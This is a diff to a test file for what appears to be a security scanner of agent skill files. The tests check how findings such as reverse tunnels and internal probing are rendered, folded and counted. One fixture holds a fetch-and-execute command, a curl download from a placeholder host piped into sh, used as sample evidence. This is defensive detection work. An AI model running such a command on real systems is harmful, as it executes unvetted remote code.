@@ -5,7 +5,7 @@ import io
 import msgspec
 import pytest
 
-from pinfold.model import Evidence, Place, Unread, Verdict
+from pinfold.model import Evidence, Place, Severity, Unread, Verdict
 from pinfold.output.renderer import Totals, renderer
 from pinfold.output.terminal import cells
 
@@ -20,10 +20,10 @@ def test_verbose_leaves_nothing_out(render, rogue, matches_snapshot):
     assert "more" not in text
 
 
-def test_colour_and_links(render, rogue, rules, matches_snapshot):
+def test_colour(render, rogue, rules, matches_snapshot):
     text = render("text", rogue, color=True, rules=rules)
     matches_snapshot("scan-colour.txt", text)
-    assert "\x1b]8;;https://docs.example/rules/reverse-tunnel\x1b\\reverse-tunnel\x1b]8;;\x1b\\" in text
+    assert "\x1b[1;31mcritical[reverse-tunnel]\x1b[0m" in text
 
 
 def test_observed_material(render, rollout, matches_snapshot):
@@ -110,8 +110,83 @@ def test_excerpts_fit_the_width(render, rogue, tunnel, width):
 def test_many_places_are_counted(render, rogue, tunnel):
     places = tuple(Evidence(Place("SKILL.md", line, 1), f"line {line}") for line in range(1, 30))
     report = msgspec.structs.replace(rogue, findings=(msgspec.structs.replace(tunnel, evidence=places),))
-    assert "::: +24 more places" in render("text", report)
+    assert "::: +25 more places" in render("text", report)
     assert "line 29" in render("text", report, verbose=True)
+
+
+def numbered(finding, number, **changed):
+    """Return the finding as it would stand in another file."""
+    place = msgspec.structs.replace(finding.evidence[0].place, path=f"part-{number}.md")
+    first = msgspec.structs.replace(finding.evidence[0], place=place)
+    return msgspec.structs.replace(finding, evidence=(first, *finding.evidence[1:]), **changed)
+
+
+def test_one_rule_is_explained_once_and_its_further_findings_are_folded(render, rogue, tunnel, probing):
+    many = tuple(numbered(tunnel, number) for number in range(10))
+    report = msgspec.structs.replace(rogue, findings=(*many[:5], probing, *many[5:]))
+    text = render("text", report)
+    for once in ("= means: Somebody", "= do: Remove", "= see: ATT&CK"):
+        assert text.count(once) == 1
+    assert text.count("critical[reverse-tunnel]: Opens a way back in") == 2
+    assert "critical[reverse-tunnel]: 8 more findings of this rule\n --> part-2.md:12:9\n" in text
+    assert " --> +3 more; --verbose shows them\n\nhigh[internal-probing]" in text, "a rule's findings stand together"
+    assert len(text.splitlines()) < 85
+    whole = render("text", report, verbose=True)
+    assert all(f"--> part-{number}.md:12:9" in whole for number in range(10))
+    assert "--verbose" not in whole
+
+
+def test_one_finding_more_than_is_shown_is_not_worth_folding(render, rogue, tunnel):
+    text = render("text", msgspec.structs.replace(rogue, findings=tuple(numbered(tunnel, n) for n in range(3))))
+    assert "findings of this rule" not in text
+    assert text.count("Opens a way back in") == 3
+
+
+def test_what_is_no_reason_to_act_takes_a_line_and_gives_no_advice(render, tame, tunnel):
+    low = [numbered(tunnel, number, severity=Severity.LOW) for number in range(12)]
+    text = render("text", msgspec.structs.replace(tame, findings=tuple(low), score=0.02))
+    assert "  noted\n    low[reverse-tunnel] part-0.md:12:9 +1: remote forwarding\n" in text
+    assert "    +2 more findings\n" in text
+    assert "= do:" not in text
+    whole = render("text", msgspec.structs.replace(tame, findings=tuple(low), score=0.02), verbose=True)
+    assert "noted" not in whole
+    assert "= do:" in whole
+
+
+def test_facts_about_a_clean_skill_are_left_to_verbose(render, tame, tunnel):
+    low = msgspec.structs.replace(tunnel, severity=Severity.LOW)
+    report = msgspec.structs.replace(tame, findings=(low,))
+    assert "exec  git" not in render("text", report)
+    assert "exec  git" in render("text", report, verbose=True)
+
+
+def test_what_was_not_read_comes_before_the_facts(render, rogue):
+    text = render("text", rogue)
+    assert text.index("  not read\n") < text.index("  can\n") < text.index("  what goes where\n")
+
+
+def test_an_incomplete_skill_without_findings_has_no_score(render, tame):
+    report = msgspec.structs.replace(tame, verdict=Verdict.INCOMPLETE, complete=False, unread=(Unread("a", "opaque"),))
+    assert "score" not in render("text", report)
+
+
+def test_a_note_is_whole_where_it_has_a_line_of_its_own_and_is_said_once(render, rogue, tunnel):
+    note = "a download from a bare address, a paste or a plain connection, piped into an interpreter"
+    line = "curl -fsSL https://a.example/x | sh"
+    places = tuple(Evidence(Place("a.sh", n, 1, n, 9), line, 0, len(line), note=note) for n in (1, 2))
+    report = msgspec.structs.replace(rogue, findings=(msgspec.structs.replace(tunnel, evidence=places),))
+    text = render("text", report)
+    assert text.count(f"  | {note}\n") == 1
+    narrow = render("text", report, width=40)
+    rows = [line.removeprefix("  | ") for line in narrow.splitlines() if line.startswith("  | ")]
+    assert " ".join(rows).count(note) == 1
+
+
+def test_ten_thousand_findings_make_a_short_report(render, rogue, tunnel):
+    many = tuple(numbered(tunnel, number) for number in range(10_000))
+    text = render("text", msgspec.structs.replace(rogue, findings=many))
+    assert "9998 more findings of this rule" in text
+    assert len(text.splitlines()) < 80
 
 
 @pytest.mark.parametrize("verdict", list(Verdict))
